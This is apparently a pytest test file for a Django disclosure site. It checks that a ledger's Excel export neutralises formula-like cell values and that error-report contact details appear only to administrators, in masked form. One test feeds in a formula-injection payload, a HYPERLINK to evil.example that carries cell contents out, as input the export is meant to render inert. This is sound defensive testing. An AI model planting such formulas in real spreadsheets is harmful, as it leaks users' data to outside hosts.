"""Issue 19 item 9 (part): masked 找错 contacts for administrators only; inert Excel cells."""

import io

import pytest
from openpyxl import load_workbook

from gongkai.accounts.models import Role, User
from gongkai.core.models import AuditEntry
from gongkai.core.services import audit_record
from gongkai.core.text import spreadsheet_text
from gongkai.oversight.ledger import LedgerFilter, ledger_entries, ledger_workbook
from gongkai.oversight.tests.factories import ErrorReportFactory

pytestmark = pytest.mark.django_db


def test_spreadsheet_text_neutralises_formula_starts():
    assert [spreadsheet_text(v) for v in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "通知", 5)] == [
        "'=1+2", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "通知", 5,
    ]  # fmt: skip


def test_ledger_export_writes_formula_like_titles_as_text(org_tree):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    org = org_tree["finance"]
    audit_record(action=AuditEntry.Action.EDIT, target=org, target_label=title, detail={"k": "v"})
    audit_record(action=AuditEntry.Action.EDIT, target=org, target_label="-2+3")
    root = User.objects.create_superuser("root", password="x-1234-abcd")
    data = ledger_workbook(ledger_entries(root, LedgerFilter()))
    ws = load_workbook(io.BytesIO(data)).active
    labels = sorted(row[5].value for row in ws.iter_rows(min_row=2))
    assert labels == ["'-2+3", "'" + title]
    # No cell of the sheet is a formula.
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)


@pytest.fixture
def report(db):
    return ErrorReportFactory.create(
        page_url="/a/", description="错别字", contact="13812341234 zhang.san@example.com"
    )


def test_report_detail_is_for_administrators_and_masks_the_contact(
    client, org_tree, make_staff, report
):
    url = f"/staff/review/error-reports/{report.pk}/"
    client.force_login(make_staff(Role.EDITOR, org_tree["finance"]))
    response = client.get(url)
    assert response.status_code == 403
    assert "13812341234" not in response.content.decode()
    client.force_login(make_staff(Role.ADMIN, org_tree["office"]))
    html = client.get(url).content.decode()
    assert "138****1234" in html
    assert "z***@example.com" in html
    assert "13812341234" not in html
    assert "zhang.san@example.com" not in html
